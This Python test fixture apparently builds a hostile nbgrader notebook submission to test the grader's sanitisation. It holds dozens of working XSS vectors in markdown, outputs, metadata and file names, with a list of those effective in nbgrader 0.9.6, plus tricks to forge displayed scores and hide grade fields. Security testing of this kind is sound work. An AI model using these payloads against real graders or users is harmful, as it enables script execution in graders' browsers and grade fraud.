"""A submission in which every part tries to run code in the browser of the person who grades it."""

import base64
import json
from pathlib import Path
from typing import Any


PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
PNG += "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
FORMULA = r"The image keeps $\frac{s_i}{2} < \sqrt{x_i}$ of itself."


def hack(name: str) -> str:
    """Return JavaScript without double quotes that notes, in the page or around it, that it ran."""
    # No space, which would end the address of a link in Markdown.
    return f"(top.hacked=top.hacked||[]).push('{name.replace(' ', '-')}')"


def img(name: str) -> str:
    return f'<img src=x onerror="{hack(name)}">'


def svg(name: str) -> str:
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{hack(name)}\"></svg>"


def _data_url(content: str, kind: str = "text/html") -> str:
    return f"data:{kind};base64,{base64.b64encode(content.encode()).decode()}"


MARKDOWN = {
    "event handler": img("event handler"),
    "event handler in text": f"An *honest* report {img('event handler in text')} with a picture.",
    "svg": svg("svg"),
    "script": f"<script>{hack('script')}</script>",
    "frame": f'<iframe srcdoc="<script>{hack("frame")}</script>"></iframe>',
    "frame with javascript": f'<iframe src="javascript:{hack("frame with javascript")}"></iframe>',
    "style": "<style>.score, #notebook { display: none }</style>",
    "details": f'<details open ontoggle="{hack("details")}">x</details>',
    "focus": f'<input autofocus onfocus="{hack("focus")}">',
    "object": f'<object data="{_data_url("<script>" + hack("object") + "</script>")}"></object>',
    "form": '<form action="/formgrader/api/grades"><button>More</button></form>',
    "base": '<base href="https://example.invalid/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{hack("refresh")}">',
    "comment": "<!-- hides the rest of the page",
    "closing tags": "</div></div></div></div></div></div>",
    "link": f"[a reference](javascript:{hack('link')})",
    "link in capitals": f"[a reference](JaVaScRiPt:{hack('link in capitals')})",
    "link with entity": f"[a reference](java&#115;cript:{hack('link with entity')})",
    "link by reference": f"[a reference][r]\n\n[r]: javascript:{hack('link by reference')}",
    "data link": f"[a page]({_data_url('<script>' + hack('data link') + '</script>')})",
    "autolink": f"<javascript:{hack('autolink')}>",
    "quoted link": f'[a](https://a.b/"onmouseover="{hack("quoted link")}")',
    "settings of another folder": "[the results](/formgrader?path=submitted/hostile)",
    "remote image": "![x](https://example.invalid/pixel.png)",
    "svg image": f"![x]({_data_url(svg('svg image'), 'image/svg+xml')})",
    "mermaid": f"```mermaid\n</pre>{img('mermaid')}\n```",
    "info string": f'```"><img/src=x/onerror="{hack("info string")}">\nx\n```',
    "fence in fence": f"````\n```\n{img('fence in fence')}",
    "table": f"| a | b |\n|---|---|\n| {img('table')} | x |",
    "href macro": rf"$\href{{javascript:{hack('href macro')}}}{{x}}$",
    "unicode macro": r"$\unicode[';} body{display:none} ']{x3c}$",
    "require macro": r"$\require{../../../../evil}$",
    "style macro": r"$\style{position:fixed; top:0; left:0; width:100%}{\rule{9999px}{9999px}}$",
    "redefined macro": r"$\def\frac#1#2{18/18}$",
    "id macro": r"$\cssId{mixup_points}{1}$",
    "class macro": r"$\class{score}{18}$",
    "forged points": r"$\llap{18 of 18 points \kern 20em}$",
    "moved text": r"$x \hspace{-30em} \text{18 of 18 points}$",
    "address": f'https://a.b/"onmouseover="{hack("address")}',
    "style attribute": '<p style="position: fixed; inset: 0; background: url(//a.b/c)">x</p>',
    "video": f'<video src=x onerror="{hack("video")}"></video>',
    "html in a formula": f"$x {img('html in a formula')} y$",
    "html in an equation": f"\\begin{{equation}}{img('html in an equation')}\\end{{equation}}",
    "heading with the id of a field": "## mixup_points",
    "missing attachment": "![x](attachment:missing.png)",
}


# What works in nbgrader 0.9.6, the one as it is.
EFFECTIVE = (
    *("event handler", "event handler in text", "svg", "script", "frame", "style", "details"),
    *("object", "form", "base", "link", "link in capitals", "link by reference", "data link"),
    *("remote image", "svg image", "mermaid", "table", "html output", "isolated output"),
    *("javascript output", "markdown output", "svg output", "attachment", "name of a graded cell"),
    "video",
)


# A colour, a link, and a colour that isn't one: nbconvert turns the first into HTML.
TERMINAL = (
    f"\x1b[31m{img('red text')}\x1b]8;;javascript:{hack('terminal link')}\x07link\x1b]8;;\x07"
    f'\x1b[38;2;1;2;3"onclick={hack("colour")}m'
)


def _code(outputs: list[Any] = (), **fields: Any) -> dict[str, Any]:  # type: ignore[assignment]
    cell = {"cell_type": "code", "source": "1", "metadata": {}, "execution_count": None}
    return cell | {"outputs": list(outputs)} | fields


def _display(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return _code([{"output_type": "display_data", "data": data, "metadata": metadata}])


def _markdown(source: str, attachment: str = "a.png") -> dict[str, Any]:
    attachments = {attachment: {"image/png": PNG}}
    cell = {"cell_type": "markdown", "metadata": {}, "source": source}
    return cell | {"attachments": attachments}


def cells() -> dict[str, dict[str, Any]]:
    """Return cells, by what is hostile in them, and at last an honest one."""
    settings = {
        "schema_version": 3,
        "grade": True,
        "solution": True,
        "locked": False,
        "task": False,
    }
    markdown = {
        name: {"cell_type": "markdown", "metadata": {}, "source": source}
        for name, source in MARKDOWN.items()
    }
    return markdown | {
        "html output": _display({"text/html": img("html output")}),
        "isolated output": _display(
            {"text/html": img("isolated output")}, **{"text/html": {"isolated": True}}
        ),
        "javascript output": _display({"application/javascript": hack("javascript output")}),
        "markdown output": _display({"text/markdown": img("markdown output")}),
        "svg output": _display({"image/svg+xml": svg("svg output")}),
        "latex output": _display({"text/latex": img("latex output")}),
        "png that isn't one": _display({"image/png": f'"{img("png that is not one")}'}),
        "size of a png": _display(
            {"image/png": PNG}, **{"image/png": {"width": f"1 onload={hack('size of a png')}"}}
        ),
        "widget": _display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>"}}),
        "name of a stream": _code(
            [{"output_type": "stream", "name": f'">{img("name of a stream")}', "text": "text"}]
        ),
        "text": _code([{"output_type": "stream", "name": "stdout", "text": img("text")}]),
        "traceback": _code(
            [
                {
                    "output_type": "error",
                    "ename": "E",
                    "evalue": img("error"),
                    "traceback": [img("traceback")],
                }
            ]
        ),
        "number of a cell": _code(execution_count=img("number of a cell")),
        "id of a cell": _code(id=f'">{img("id of a cell")}'),
        "tags": _code(metadata={"tags": [f'">{img("tags")}']}),
        "name of a graded cell": {
            "cell_type": "markdown",
            "source": "x",
            "metadata": {
                "nbgrader": settings
                | {
                    "grade_id": f'">{img("name of a graded cell")}',
                    "points": img("points of a graded cell"),
                }
            },
        },
        "terminal codes": _code([{"output_type": "stream", "name": "stdout", "text": TERMINAL}]),
        "mermaid output": _display({"text/vnd.mermaid": f"</pre>{img('mermaid output')}"}),
        "title of a link": _markdown("[a](https://a.b 'x\" onmouseover=\"top.hacked=[1]')"),
        "text of an image": _markdown('![" onload="top.hacked=[2]](attachment:a.png)'),
        "name of an attachment": _markdown(
            '![x](<attachment:a" onload="top.hacked=[3]>)', 'a" onload="top.hacked=[3]'
        ),
        "heading": _markdown('## x" onmouseover="top.hacked=[4]'),
        "text in a formula": _markdown(rf"$\text{{{img('text in a formula')}}}$"),
        "raw": {"cell_type": "raw", "metadata": {}, "source": img("raw")},
        "raw html": {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": img("raw html"),
        },
        "attachment": {
            "cell_type": "markdown",
            "metadata": {},
            "source": "![x](attachment:a.png)",
            "attachments": {"a.png": {"text/html": f'"{img("attachment")}'}},
        },
        "honest": _markdown(f"**An honest cell.** {FORMULA} ![a plot](attachment:a.png)"),
    }


def submission(release: Any) -> Any:
    """Return a notebook with the cells of an assignment, and a hostile cell of each kind."""
    notebook = json.loads(json.dumps(release))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "report":
            cell["source"] = f"My report. {FORMULA} {img('report')}"
    notebook["cells"] += [{"id": f"x{i}"} | cell for i, cell in enumerate(cells().values())]
    notebook["metadata"] = {
        "title": img("title"),
        "kernelspec": {"name": img("kernel"), "display_name": img("kernel"), "language": "python"},
        "language_info": {"name": img("language"), "pygments_lexer": "html"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script>" + img("w")}
        },
    }
    return notebook


def write(folder: Path, name: str, release: Any) -> None:
    """Write the submission, a notebook with a hostile name, and files beside it that are pages."""
    folder.mkdir(parents=True)
    content = json.dumps(submission(release))
    (folder / f"{name}.ipynb").write_text(content)
    (folder / f"{img('name of a notebook')}.ipynb").write_text(content)
    (folder / "page.html").write_text(f"<script>{hack('page')}</script>")
    (folder / "drawing.svg").write_text(svg("drawing"))
